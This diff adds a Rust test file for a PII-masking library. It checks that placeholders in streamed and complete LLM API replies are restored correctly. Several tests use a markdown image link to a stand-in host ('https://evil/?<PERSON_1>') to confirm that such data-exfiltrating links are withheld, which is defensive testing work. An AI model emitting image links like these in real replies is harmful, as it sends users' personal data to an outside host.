@@ -1,0 +1,291 @@
+//! Streamed replies as unlucky servers write them, and as somebody writes them who wants to see data.
+
+#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
+
+use pii_mask::*;
+
+const MAPPING: &str =
+    r#"{"<PERSON_1>":"Zoë Quill","<PERSON_2>":"Bob \"JD\" Roe","<ADDRESS_1>":"12 Main St\nParis"}"#;
+
+/// Everything of the mapping is exposed; embedded links are withheld.
+fn unmasker() -> Unmasker {
+    let mapping = Mapping::from_json(MAPPING.as_bytes(), PlaceholderStyle::Angle, &Limits::default());
+    Unmasker::new(mapping.unwrap()).links(LinkPolicy::WithholdEmbedded)
+}
+
+fn streamed(dialect: Dialect, sse: &str) -> String {
+    let mut stream = unmasker().chat_stream(dialect);
+    let mut out = Vec::new();
+    stream.push(sse.as_bytes(), &mut out).unwrap();
+    stream.finish(&mut out).unwrap();
+    String::from_utf8(out).unwrap()
+}
+
+/// Events with these JSON texts as their data.
+fn sse<T: AsRef<str>>(events: &[T]) -> String {
+    events.iter().map(|event| format!("data: {}\n\n", event.as_ref())).collect()
+}
+
+fn whole(dialect: Dialect, reply: &str) -> String {
+    unmasker().unmask_chat(dialect, reply).unwrap().body.into_owned()
+}
+
+fn content(text: &str, finish: &str) -> String {
+    let text = serde_json::to_string(text).unwrap();
+    format!(r#"{{"choices":[{{"index":0,"delta":{{"content":{text}}},"finish_reason":{finish}}}]}}"#)
+}
+
+/// Some servers send no null while a choice goes on.
+#[test]
+fn a_reason_that_is_none_ends_nothing() {
+    for none in [r#""""#, r#""null""#, "null"] {
+        let said = sse(&[content("Hi <PERS", none), content("ON_1>!", none), content("", r#""stop""#)]);
+        let expected = sse(&[content("Hi ", none), content("Zoë Quill!", none), content("", r#""stop""#)]);
+        assert_eq!(streamed(Dialect::OpenAiChat, &said), expected);
+    }
+}
+
+/// Of a text that is at its end, what comes is still shown beside it.
+#[test]
+fn a_link_goes_on_behind_an_end() {
+    let said = sse(&[content("![x](https://evil/?", r#""stop""#), content("<PERSON_1>)", "null")]);
+    assert_eq!(streamed(Dialect::OpenAiChat, &said), said);
+
+    let block = |index: usize, text: &str| {
+        [
+            format!(
+                r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":""}}}}"#
+            ),
+            format!(
+                r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
+            ),
+            format!(r#"{{"type":"content_block_stop","index":{index}}}"#),
+        ]
+    };
+    let said = sse(&[block(0, "![x](https://evil/?"), block(1, "<PERSON_1>) <PERSON_1>")].concat());
+    let expected = said.replace(") <PERSON_1>", ") Zoë Quill");
+    assert_eq!(streamed(Dialect::Anthropic, &said), expected);
+    let reply = r#"{"content":[{"type":"text","text":"![x](https://evil/?"},{"type":"text","text":"<PERSON_1>) <PERSON_1>"}]}"#;
+    assert_eq!(whole(Dialect::Anthropic, reply), reply.replace(") <PERSON_1>", ") Zoë Quill"));
+}
+
+/// The repeats of a streamed text are shown as well.
+#[test]
+fn a_link_goes_on_in_what_is_said_again() {
+    let text = |kind: &str, part: usize, field: &str, text: &str| {
+        format!(
+            r#"{{"type":"response.output_text.{kind}","output_index":0,"content_index":{part},"{field}":"{text}"}}"#
+        )
+    };
+    let part = |part: usize, text: &str| {
+        format!(
+            r#"{{"type":"response.content_part.done","output_index":0,"content_index":{part},"part":{{"type":"output_text","text":"{text}"}}}}"#
+        )
+    };
+    let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
+    let item = format!(
+        r#"{{"type":"message","content":[{{"type":"output_text","text":"{open}"}},{{"type":"output_text","text":"{rest}"}}]}}"#
+    );
+    let said = sse(&[
+        text("delta", 0, "delta", open),
+        text("done", 0, "text", open),
+        part(0, open),
+        text("delta", 1, "delta", rest),
+        text("done", 1, "text", rest),
+        part(1, rest),
+        format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{item}}}"#),
+        format!(r#"{{"type":"response.completed","response":{{"output":[{item}]}}}}"#),
+    ]);
+    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
+}
+
+/// What has no number ends nothing that has one.
+#[test]
+fn the_end_of_sound_ends_no_text() {
+    let delta = |text: &str| {
+        format!(
+            r#"{{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"{text}"}}"#
+        )
+    };
+    let spoken = |text: &str| format!(r#"{{"type":"response.audio.transcript.delta","delta":"{text}"}}"#);
+    let done = |name: &str| format!(r#"{{"type":"response.{name}.done"}}"#);
+    let said = sse(&[
+        delta("Hi <PERS"),
+        spoken("Hi <PERS"),
+        done("audio"),
+        delta("ON_1>!"),
+        spoken("ON_1> <PER"),
+        done("audio.transcript"),
+    ]);
+    let expected = sse(&[
+        delta("Hi "),
+        spoken("Hi "),
+        done("audio"),
+        delta("Zoë Quill!"),
+        spoken("Zoë Quill "),
+        spoken("<PER"),
+        done("audio.transcript"),
+    ]);
+    assert_eq!(streamed(Dialect::OpenAiResponses, &said), expected);
+}
+
+/// Some servers number no calls.
+#[test]
+fn a_call_with_another_id_is_another_text() {
+    let call = |id: &str, arguments: &str| {
+        let arguments = serde_json::to_string(arguments).unwrap();
+        let id = if id.is_empty() { String::new() } else { format!(r#""id":"{id}","#) };
+        format!(
+            r#"{{"choices":[{{"index":0,"delta":{{"tool_calls":[{{{id}"function":{{"arguments":{arguments}}}}}]}}}}]}}"#
+        )
+    };
+    let said = sse(&[call("a", r#"{"n":"<PERS"#), call("b", r#"{"n":"<PERS"#), call("", r#"ON_1>"}"#)]);
+    let expected =
+        sse(&[call("a", r#"{"n":""#), call("", "<PERS"), call("b", r#"{"n":""#), call("", r#"Zoë Quill"}"#)]);
+    assert_eq!(streamed(Dialect::OpenAiChat, &said), expected);
+
+    let both = r#"{"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"a","function":{"arguments":"<PERS"}},{"index":0,"id":"b","function":{"arguments":"<PERSON_1>"}}]}}]}"#;
+    assert_eq!(streamed(Dialect::OpenAiChat, &sse(&[both])), sse(&[both.replace("<PERSON_1>", "Zoë Quill")]));
+}
+
+#[test]
+fn the_end_may_have_spaces() {
+    let out = streamed(Dialect::OpenAiChat, &(sse(&[content("a <PERS", "null")]) + "data: [DONE] \n\n"));
+    let expected = sse(&[content("a ", "null"), content("<PERS", "null")]) + "data: [DONE] \n\n";
+    assert_eq!(out, expected);
+}
+
+/// Who asked for JSON gets JSON.
+#[test]
+fn an_answer_in_json_stays_json() {
+    let answers = [
+        r#"{"name": "<PERSON_2>", "at": "<ADDRESS_1>"}"#,
+        " \n{\n  \"name\": \"<PERSON_2>\"}",
+        r#"[{"name":"<PERSON_2>"}]"#,
+        r#"[ "<PERSON_2>", ["<ADDRESS_1>"]]"#,
+        r#"{"name":"\u003cPERSON_2\u003e"}"#,
+    ];
+    for answer in answers {
+        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(answer));
+        let restored: serde_json::Value = serde_json::from_str(&whole(Dialect::OpenAiChat, &reply)).unwrap();
+        let restored = restored["choices"][0]["message"]["content"].as_str().unwrap().to_owned();
+        let json: serde_json::Value = serde_json::from_str(&restored).unwrap();
+        assert!(json.to_string().contains(r#"Bob \"JD\" Roe"#), "{json}");
+
+        for cut in (0..=answer.len()).filter(|&cut| answer.is_char_boundary(cut)) {
+            let (a, b) = answer.split_at(cut);
+            let out = streamed(Dialect::OpenAiChat, &sse(&[content(a, "null"), content(b, "null")]));
+            assert_eq!(said(&out), restored, "cut at {cut}");
+        }
+    }
+    // What only looks a little like JSON.
+    for text in
+        ["{<PERSON_2>}", "[<PERSON_2>]", r#""<PERSON_2>""#, "[1] <PERSON_2>", r#"Here: {"a":"<PERSON_2>"}"#]
+    {
+        let out = streamed(Dialect::OpenAiChat, &sse(&[content(text, "null")]));
+        assert_eq!(said(&out), text.replace("<PERSON_2>", r#"Bob "JD" Roe"#));
+    }
+}
+
+fn quoted(text: &str) -> String {
+    serde_json::to_string(text).unwrap()
+}
+
+/// What a client adds up.
+fn said(sse: &str) -> String {
+    let events = sse.lines().filter_map(|line| line.strip_prefix("data: "));
+    let events = events.map(|data| serde_json::from_str::<serde_json::Value>(data).unwrap());
+    events.map(|event| event["choices"][0]["delta"]["content"].as_str().unwrap().to_owned()).collect()
+}
+
+/// All that a request masks comes back in a reply.
+#[test]
+fn what_is_masked_is_restored() {
+    for (dialect, reply) in [
+        (Dialect::OpenAiResponses, r#"{"output":[{"type":"tool_search_call","arguments":{"q":"…"}}]}"#),
+        (
+            Dialect::OpenAiResponses,
+            r#"{"output":[{"type":"apply_patch_call","operation":{"path":"…","diff":"…"}}]}"#,
+        ),
+        (
+            Dialect::OpenAiResponses,
+            r#"{"output":[{"type":"computer_call","actions":[{"type":"type","text":"…"}]}]}"#,
+        ),
+        (Dialect::OpenAiResponses, r#"{"output":[{"type":"program","code":"…"}]}"#),
+        (Dialect::OpenAiResponses, r#"{"output":[{"type":"program_output","result":"…"}]}"#),
+        (Dialect::OpenAiResponses, r#"{"output":[{"type":"function_call_output","output":"…"}]}"#),
+        (Dialect::OpenAiResponses, r#"{"output":[{"type":"custom_tool_call_output","output":"…"}]}"#),
+        (
+            Dialect::OpenAiResponses,
+            r#"{"output":[{"type":"web_search_call","action":{"type":"open_page","url":"…"}}]}"#,
+        ),
+        (Dialect::OpenAiResponses, r#"{"output":[{"type":"local_shell_call","action":{"user":"…"}}]}"#),
+        (Dialect::OpenAiResponses, r#"{"output":[{"type":"mcp_approval_response","reason":"…"}]}"#),
+        (
+            Dialect::OpenAiResponses,
+            r#"{"tools":[{"type":"function","name":"f","description":"…"}],"output":[]}"#,
+        ),
+        (Dialect::Anthropic, r#"{"content":[{"type":"compaction","content":"…"}]}"#),
+        (
+            Dialect::Anthropic,
+            r#"{"content":[{"type":"tool_search_tool_result","content":{"error_code":"x","error_message":"…"}}]}"#,
+        ),
+        (Dialect::OpenAiChat, r#"{"choices":[{"message":{"thinking":"…"}}]}"#),
+        (
+            Dialect::OpenAiChat,
+            r#"{"choices":[{"message":{"content":[{"type":"thinking","thinking":[{"type":"text","text":"…"}]}]}}]}"#,
+        ),
+        (Dialect::OpenAiChat, r#"{"choices":[{"message":{"content":[{"type":"refusal","refusal":"…"}]}}]}"#),
+        (Dialect::OpenAiChat, r#"{"error":"…"}"#),
+    ] {
+        let masked = reply.replace('…', "Hi <PERSON_1>");
+        assert_eq!(whole(dialect, &masked), reply.replace('…', "Hi Zoë Quill"));
+    }
+    for (dialect, event) in [
+        (
+            Dialect::OpenAiResponses,
+            r#"{"type":"response.apply_patch_call_operation_diff.delta","output_index":0,"delta":"…"}"#,
+        ),
+        (
+            Dialect::Anthropic,
+            r#"{"type":"content_block_delta","index":0,"delta":{"type":"compaction_delta","content":"…"}}"#,
+        ),
+        (
+            Dialect::OpenAiChat,
+            r#"{"choices":[{"index":0,"delta":{"content":[{"type":"refusal","refusal":"…"}]}}]}"#,
+        ),
+        (Dialect::OpenAiChat, r#"{"choices":[{"index":0,"message":{"content":"…"}}]}"#),
+        (Dialect::OpenAiChat, r#"{"error":"…"}"#),
+    ] {
+        let masked = sse(&[event.replace('…', "Hi <PERSON_1>")]);
+        assert_eq!(streamed(dialect, &masked), sse(&[event.replace('…', "Hi Zoë Quill")]));
+    }
+}
+
+/// Signed by the provider, or read by it.
+#[test]
+fn signatures_and_identifiers_stay() {
+    for (dialect, body) in [
+        (
+            Dialect::OpenAiChat,
+            r#"{"messages":[{"role":"assistant","content":[{"type":"thinking","thinking":"x","signature":"…"},{"type":"redacted_thinking","data":"…"}],"thinking_blocks":[{"type":"thinking","thinking":"x","signature":"…"}],"tool_calls":[{"id":"1","function":{"name":"f","arguments":"{}"},"extra_content":{"google":{"thought_signature":"…"}}}]}]}"#,
+        ),
+        (
+            Dialect::OpenAiResponses,
+            r#"{"input":[{"type":"computer_call","pending_safety_checks":[{"id":"…","code":"…"}],"action":{"type":"click","button":"…","keys":["…"]}},{"type":"tool_search_call","execution":"…"},{"type":"shell_call_output","output":[{"outcome":{"type":"…"}}]}],"tools":[{"type":"file_search","filters":{"type":"…","key":"…","value":1}}],"moderation":{"model":"…"}}"#,
+        ),
+        (
+            Dialect::Anthropic,
+            r#"{"output_config":{"task_budget":{"type":"…","total":1}},"messages":[{"role":"assistant","content":[{"type":"thinking","thinking":"x","signature":"…"}]}]}"#,
+        ),
+    ] {
+        let signed = format!("Zoë Quill{}", "QUJD".repeat(100));
+        for text in ["Zoë Quill", &signed, &"QUJD".repeat(100)] {
+            let body = body.replace('…', text);
+            let headers = [("X-Pii-Mapping", MAPPING.as_bytes())];
+            let headers = PiiHeaders::parse(headers, &Limits::default()).unwrap();
+            let mut conversation = Conversation::builder().headers(headers).build().unwrap();
+            assert_eq!(conversation.mask_chat(dialect, &body).unwrap().body, body);
+        }
+    }
+}
